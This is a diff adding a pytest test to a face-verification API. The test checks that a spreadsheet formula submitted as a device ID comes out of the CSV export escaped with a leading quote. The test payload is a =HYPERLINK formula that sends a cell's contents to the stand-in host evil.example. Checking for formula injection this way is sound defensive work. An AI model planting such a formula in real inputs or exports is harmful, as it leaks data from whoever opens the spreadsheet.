@@ -4,6 +4,8 @@ answered with problem+json and nothing changed."""
 
 from __future__ import annotations
 
+import csv
+import io
 import itertools
 import json
 from datetime import timedelta
@@ -303,6 +305,22 @@ def test_a_photo_fails_and_the_answer_says_why(
     assert "planar-motion" in body["reasons"]
     assert "疑似照片或屏幕翻拍" in body["messages_zh"]
     assert body["attempts_remaining"] == 4 and body["locked"] is False
+
+
+def test_a_formula_in_a_device_id_is_exported_as_text(
+    client: TestClient, center: CenterWithStaff, operator: dict[str, str], expert_id: str
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    issued = challenge(client, operator, expert_id)
+    submitted = submit(client, issued, still_video(PERSON), device={"id": formula})
+    assert submitted.status_code == 201, submitted.text
+    exported = client.get(
+        "/api/v1/face/verifications",
+        params={"format": "csv"},
+        headers=center.headers(Role.SUPERVISOR),
+    )
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert [row["device_id"] for row in rows] == ["'" + formula]
 
 
 def test_reused_and_expired_challenges_are_refused_and_logged(
